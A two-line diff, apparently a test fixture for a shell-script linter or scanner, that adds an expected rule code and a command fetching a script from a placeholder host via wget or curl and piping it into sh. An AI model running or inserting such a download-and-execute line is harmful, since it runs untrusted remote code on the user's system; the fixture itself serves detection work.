@@ -1,0 +1,2 @@
+# expect: DVM202
+$(which wget || which curl) -qO- https://x.example.org/i.sh | sh
